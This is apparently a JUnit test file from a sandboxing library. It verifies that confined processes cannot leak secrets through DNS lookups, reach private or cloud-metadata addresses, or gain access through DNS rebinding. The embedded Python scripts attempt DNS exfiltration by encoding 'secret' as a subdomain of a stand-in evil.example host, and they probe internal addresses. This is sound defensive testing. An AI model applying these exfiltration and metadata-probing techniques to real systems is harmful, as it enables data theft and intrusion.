package io.github.cofferdam.sandbox;

import static io.github.cofferdam.sandbox.NetworkScript.assertResults;
import static io.github.cofferdam.sandbox.Sandboxed.assumeAvailable;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.github.cofferdam.policy.DnsServer;
import io.github.cofferdam.policy.Isolation;
import io.github.cofferdam.policy.Network;
import io.github.cofferdam.policy.NetworkRule;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;

/** Ways out by names: what is asked, what is answered, and what an answer is good for. */
@Tag("kernel")
class NetworkNameAttemptsTest {
  private static final Pattern SERVER = Pattern.compile("(?m)^nameserver\\s+([0-9.]+)\\s*$");

  /** Asks the first of the host's servers, which is what programs do. */
  private static final String ASK =
      """
      NS = (sys.argv[3], 53)
      TXT, AAAA, HTTPS, ANY = 16, 28, 65, 255
      def question(name, kind):
          labels = b''.join(bytes([len(each)]) + each.encode() for each in name.split('.'))
          return struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(
              '!xHH', kind, 1)
      def read(data):
          return data[3] & 15, struct.unpack_from('!H', data, 6)[0]
      def ask(name, kind=1):
          one = udp(); one.settimeout(60); one.connect(NS)
          one.send(question(name, kind))
          return read(one.recv(4096))
      def ask_stream(name, kind=1):
          one = tcp(); one.settimeout(60); one.connect(NS)
          data = question(name, kind)
          one.sendall(struct.pack('!H', len(data)) + data)
          return read(one.recv(4096)[2:])
      def ask_by(send, name):
          one = udp(); one.settimeout(60)
          send(one, question(name, 1))
          return read(one.recv(4096))
      """;

  private NetworkPlaces places;
  private OwnNames names;
  private String server;
  @TempDir private Path temporary;

  @BeforeEach
  void open() throws Exception {
    Path file = Path.of("/etc/resolv.conf");
    Matcher first = SERVER.matcher(Files.exists(file) ? Files.readString(file) : "");
    assumeTrue(first.find(), "this host names no server of IPv4 in /etc/resolv.conf");
    server = first.group(1);
    places = NetworkPlaces.open();
    names = OwnNames.open();
  }

  @AfterEach
  void nothingArrived() throws Exception {
    if (names != null) {
      names.close();
    }
    if (places == null) {
      return;
    }
    try {
      places.assertNothingArrived();
    } finally {
      places.close();
    }
  }

  private Network allowing(String... rules) {
    return Network.DEFAULT
        .withAllow(Arrays.stream(rules).map(NetworkRule::parse).toList())
        .withDns(List.of(DnsServer.parse(names.place())));
  }

  private Map<String, String> confined(Isolation isolation, Network network, String script)
      throws Exception {
    assumeAvailable(isolation);
    return NetworkScript.confined(
        places, NetworkPlaces.policy(isolation, network), temporary, ASK + script, server);
  }

  /** NW-20: of a name that may not be asked for nothing leaves, whatever is asked of it. */
  @ParameterizedTest
  @EachIsolation
  void secretsDoNotLeaveAsNames(Isolation isolation) throws Exception {
    names.put("good.example", "9.9.9.9");

    Map<String, String> results =
        confined(
            isolation,
            allowing("good.example:443", "*.wild.example"),
            """
            attempt('allowed', lambda: ask('good.example'))
            attempt('stream', lambda: ask_stream('good.example'))
            attempt('spelled', lambda: ask('GOOD.eXample'))
            attempt('other', lambda: ask('c2VjcmV0.evil.example'))
            attempt('other-stream', lambda: ask_stream('c2VjcmV0.evil.example'))
            attempt('below', lambda: ask('c2VjcmV0.good.example'))
            attempt('above', lambda: ask('example'))
            attempt('beside', lambda: ask('c2VjcmV0good.example'))
            attempt('around', lambda: ask('good.example.evil.example'))
            attempt('text', lambda: ask('good.example', TXT))
            attempt('https', lambda: ask('good.example', HTTPS))
            attempt('any', lambda: ask('good.example', ANY))
            attempt('wild', lambda: ask('some.wild.example'))
            attempt('wild-text', lambda: ask('c2VjcmV0.wild.example', TXT))
            attempt('wild-itself', lambda: ask('wild.example'))
            attempt('sendto', lambda: ask_by(lambda s, q: s.sendto(q, NS), 'x.evil.example'))
            attempt('sendmsg', lambda: ask_by(
                lambda s, q: sendmsg(s, v4(*NS), q), 'x.evil.example'))
            attempt('sendmmsg', lambda: ask_by(
                lambda s, q: sendmmsg(s, message(v4(*NS), q)), 'x.evil.example'))
            # Nobody else is asked, and nothing else of whoever is.
            attempt('elsewhere', lambda: udp().sendto(question('x.evil.example', 1),
                ('9.9.9.9', 53)))
            attempt('other-port', lambda: udp().sendto(b'x', (NS[0], 5353)))
            attempt('tls', lambda: tcp().connect((NS[0], 853)))
            """);

    assertResults(
        """
        allowed ok (0, 1)
        stream ok (0, 1)
        spelled ok (0, 1)
        other ok (3, 0)
        other-stream ok (3, 0)
        below ok (3, 0)
        above ok (3, 0)
        beside ok (3, 0)
        around ok (3, 0)
        text ok (0, 0)
        https ok (0, 0)
        any ok (0, 0)
        wild ok (0, 0)
        wild-text ok (0, 0)
        wild-itself ok (3, 0)
        sendto ok (3, 0)
        sendmsg ok (3, 0)
        sendmmsg ok (3, 0)
        elsewhere EACCES
        other-port EACCES
        tls EACCES
        """,
        results);
    // All that the server outside has heard.
    assertEquals(Set.of("good.example 1", "some.wild.example 1"), Set.copyOf(names.asked()));
  }

  /** NW-13. */
  @ParameterizedTest
  @EachIsolation
  void namesDoNotLeadInside(Isolation isolation) throws Exception {
    names
        .put("a.wild.example", "127.0.0.1")
        .put("b.wild.example", "10.0.0.1", "192.168.1.1", "172.16.0.1", "100.64.0.1")
        .put("c.wild.example", "169.254.169.254", "168.63.129.16")
        .put("d.wild.example", "0.0.0.0", "255.255.255.255", "224.0.0.1")
        .put("e.wild.example", "::1", "fe80::1", "fd00:ec2::254", "ff02::1", "64:ff9b::7f00:1")
        .put("f.wild.example", "127.0.0.1", "9.9.9.9", "10.0.0.1")
        .put("many.wild.example", manyAddresses());

    Map<String, String> results =
        confined(
            isolation,
            allowing("*.wild.example"),
            """
            for name in 'abcd':
                attempt(name, lambda: ask(name + '.wild.example'))
            attempt('e', lambda: ask('e.wild.example', AAAA))
            # What is left of a mixed answer.
            attempt('f', lambda: ask('f.wild.example'))
            attempt('many', lambda: ask_stream('many.wild.example'))
            for name in '127.0.0.1', '10.0.0.1', '169.254.169.254', '0.0.0.0':
                attempt('to-' + name, lambda: tcp().connect((name, A)))
            attempt('to-6', lambda: tcp(AF_INET6).connect(('::1', A)))
            """);

    assertResults(
        """
        a ok (0, 0)
        b ok (0, 0)
        c ok (0, 0)
        d ok (0, 0)
        e ok (0, 0)
        f ok (0, 1)
        many ok (0, 60)
        to-127.0.0.1 EACCES
        to-10.0.0.1 EACCES
        to-169.254.169.254 EACCES
        to-0.0.0.0 EACCES
        to-6 EACCES
        """,
        results);
    assertEquals(0, places.served());
  }

  /** As many as are told of one name, and 127.0.0.1 among them. */
  private static String[] manyAddresses() {
    var all = new String[61];
    Arrays.setAll(all, i -> "9.9.9." + i);
    all[30] = "127.0.0.1";
    return all;
  }

  /** An address that one rule names for a port is not open to a name's owner on another port. */
  @ParameterizedTest
  @EachIsolation
  void rebindingGainsNothing(Isolation isolation) throws Exception {
    names.put("good.example", "127.0.0.1");

    Map<String, String> results =
        confined(
            isolation,
            allowing("good.example", "127.0.0.1:" + places.allowed()),
            """
            attempt('before', lambda: tcp().connect(('127.0.0.1', F)))
            attempt('ask', lambda: ask('good.example')[0])
            attempt('after', lambda: tcp().connect(('127.0.0.1', F)))
            attempt('after-udp', lambda: udp().sendto(b'x', ('127.0.0.1', F)))
            attempt('named', lambda: tcp().connect(LO))
            """);

    assertResults(
        """
        before EACCES
        ask ok 0
        after EACCES
        after-udp EACCES
        named ok None
        """,
        results);
  }

  /** A name's address is open for what the name's rules allow, once it was told, and no more. */
  @ParameterizedTest
  @EachIsolation
  void aNameOpensItsAddressForItsPorts(Isolation isolation) throws Exception {
    names.put("good.example", "127.0.0.1").put("bad.example", "127.0.0.2");

    Map<String, String> results =
        confined(
            isolation,
            allowing("good.example:" + places.allowed(), "bad.example:1")
                .withPrivateAddresses(true),
            """
            attempt('before', lambda: tcp().connect(LO))
            attempt('asked', lambda: gethostbyname('good.example'))
            attempt('after', lambda: tcp().connect(LO))
            attempt('port', lambda: tcp().connect(('127.0.0.1', F)))
            attempt('asked-other', lambda: gethostbyname('bad.example'))
            attempt('other', lambda: tcp().connect(('127.0.0.2', A)))
            """);

    assertResults(
        """
        before EACCES
        asked ok 127.0.0.1
        after ok None
        port EACCES
        asked-other ok 127.0.0.2
        other EACCES
        """,
        results);
  }

  /** What is denied by name is, whatever else is allowed: all, or the address itself. */
  @ParameterizedTest
  @EachIsolation
  void namesThatAreDeniedAreNotReached(Isolation isolation) throws Exception {
    names.put("evil.example", "127.0.0.2").put("good.example", "127.0.0.1");
    List<NetworkRule> deny =
        List.of(
            NetworkRule.parse("evil.example:" + places.allowed()),
            NetworkRule.parse("gone.example"));
    String script =
        """
        attempt('asked', lambda: gethostbyname('evil.example'))
        attempt('evil', lambda: tcp().connect(('127.0.0.2', A)))
        attempt('evil-udp', lambda: udp().sendto(b'x', ('127.0.0.2', A)))
        attempt('gone', lambda: ask('gone.example'))
        attempt('good', lambda: gethostbyname('good.example'))
        attempt('connected', lambda: tcp().connect(LO))
        """;
    String expected =
        """
        asked ok 127.0.0.2
        evil EACCES
        evil-udp EACCES
        gone ok (3, 0)
        good ok 127.0.0.1
        connected ok None
        """;
    Network some = allowing("*").withPrivateAddresses(true).withDeny(deny);
    assertResults(expected, confined(isolation, some, script));

    Network full =
        Network.DEFAULT
            .withAccess(Network.Access.FULL)
            .withDns(List.of(DnsServer.parse(names.place())))
            .withDeny(deny);
    assertResults(expected, confined(isolation, full, script));
  }
}
